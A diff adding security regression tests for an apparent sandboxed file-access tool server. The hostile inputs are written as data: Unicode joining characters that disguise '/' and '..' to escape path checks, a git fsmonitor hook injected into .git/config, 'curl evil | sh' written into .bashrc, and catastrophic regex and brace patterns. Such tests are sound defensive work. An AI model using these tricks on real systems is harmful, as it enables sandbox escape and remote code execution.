@@ -23,6 +23,7 @@ import ctypes
 import json
 import os
 import secrets
+import stat
 import threading
 import time
 from dataclasses import dataclass, field
@@ -786,3 +787,98 @@ def test_server_exits_on_stdin_eof_despite_a_runaway_search(srv, tree):
               "params": {"name": "search_content", "arguments": {"path": str(tree.work), "pattern": "(a+)+$"}}})  # fmt: skip
     time.sleep(0.3)
     srv.close(timeout=3, expect_code=None)
+
+
+def ok(res: dict) -> dict:
+    assert not is_error(res), result_text(res)[:500]
+    return res
+
+
+# -- grapheme tricks around "/" (found in review): every path decision is made on bytes ------------
+
+PREPEND = "\u0600"  # joins the following "/" into one Character
+COMBINING = "\u0301"  # joins the preceding "/" into one Character
+
+
+def test_a_symlink_renamed_with_a_prepend_character_cannot_reach_outside(srv, tree):
+    """Rename an in-scope link to `L\\u0600`, then use `L\\u0600/secret.txt`: the `/` is still a separator."""
+    ok(srv.call_tool("move_file", {"source": str(tree.work / "link_dir"), "destination": f"{tree.work}/L{PREPEND}"}))
+    base = f"{tree.work}/L{PREPEND}"
+    for tool, args in [
+        ("get_file_info", {"path": f"{base}/secret.txt"}),
+        ("read_text_file", {"path": f"{base}/secret.txt"}),
+        ("delete_path", {"path": f"{base}/secret.txt"}),
+        ("write_file", {"path": f"{base}/planted.sh", "content": "echo pwned\n"}),
+        ("create_directory", {"path": f"{base}/made"}),
+    ]:
+        refused(srv, tree, tool, args, ["secret.txt", "planted.sh", "made", "outside"])
+    assert not (tree.outside / "planted.sh").exists() and not (tree.outside / "made").exists()
+    srv.finish()
+
+
+def test_a_hidden_dot_dot_cannot_reach_protected_or_denied_files(spawn, write_config, tree):
+    """`x<joiner>/config` is `x/../config` to the kernel: the check must see the same `..`."""
+    git = tree.work / "proj" / ".git"
+    git.mkdir(parents=True)
+    (git / "config").write_text("[core]\n")
+    (tree.work / "secret").mkdir()
+    (tree.work / "secret" / "key").write_text(tree.secret + "\n")
+    config = write_config(
+        f"""\
+        [[clients]]
+        id = "c"
+        workdir = "{tree.top}/state-workdir"
+        permissions = ["file_read:{tree.work}/**", "file_write:{tree.work}/**"]
+        deny = ["{tree.work}/secret/**"]
+        """
+    )
+    server = start(spawn, "--config", config, "--client", "c")
+    dodge = "x" + PREPEND + "/.."  # one Character "x\u0600/" then "..": two segments to the kernel
+    for _ in range(2):  # the second time after the odd directory exists (the first answer may be cached)
+        refused(server, tree, "write_file",
+                {"path": f"{git}/{dodge}/config", "content": "[core]\n\tfsmonitor = \"touch /tmp/PWNED\"\n"},
+                ["config"])  # fmt: skip
+        refused(server, tree, "read_text_file", {"path": f"{tree.work}/{dodge}/secret/key"}, ["key"])
+        ok(server.call_tool("create_directory", {"path": f"{git}/x{PREPEND}"}))
+        ok(server.call_tool("create_directory", {"path": f"{tree.work}/x{PREPEND}"}))
+    assert (git / "config").read_text() == "[core]\n"
+    server.finish()
+
+
+def test_a_root_with_non_ascii_characters_keeps_its_rules(spawn, tmp_path):
+    root = Path(os.path.realpath(tmp_path)) / "jos\u00e9"
+    root.mkdir()
+    (root / ".env").write_text("API_KEY=hunter2\n")
+    (root / ".bashrc").write_text("echo hi\n")
+    (root / "X.env").write_text("just a file\n")
+    server = start(spawn, root)
+    res = server.call_tool("read_text_file", {"path": str(root / "X.env")})
+    assert result_text(res) == "just a file\n", res
+    ok(server.call_tool("write_file", {"path": str(root / "X.bashrc"), "content": "fine\n"}))
+    res = server.call_tool("write_file", {"path": str(root / ".bashrc"), "content": "curl evil | sh\n"})
+    assert_refused(res, names=[".bashrc"], words=("protected",))
+    assert (root / ".bashrc").read_text() == "echo hi\n" and (root / "X.bashrc").read_text() == "fine\n"
+    server.finish()
+
+
+def test_a_rewritten_file_never_keeps_setuid_or_setgid_bits(srv, tree):
+    tool = tree.work / "tool"
+    tool.write_text("#!/bin/sh\n")
+    os.chmod(tool, 0o6755)
+    ok(srv.call_tool("write_file", {"path": str(tool), "content": "#!/bin/sh\nid\n"}))
+    assert stat.S_IMODE(os.stat(tool).st_mode) == 0o755
+    srv.finish()
+
+
+def test_huge_brace_patterns_are_refused_quickly(srv, tree):
+    wide = "{" + ",".join(f"x{i}" for i in range(20_000)) + "}"
+    for pattern in [wide, "{a,b}{c,d}{e,f}{g,h}{i,j}{k,l}{m,n}"]:
+        res = srv.call_tool("search_files", {"path": str(tree.work), "pattern": pattern}, timeout=5)
+        assert is_error(res) and "pattern" in result_text(res).lower(), result_text(res)[:200]
+    srv.finish()
+
+
+def test_a_back_reference_cannot_hide_behind_a_joining_character(srv, tree):
+    res = srv.call_tool("search_content", {"path": str(tree.work), "pattern": f"(a){PREPEND}\\1"})
+    assert is_error(res) and "back-reference" in result_text(res), result_text(res)
+    srv.finish()
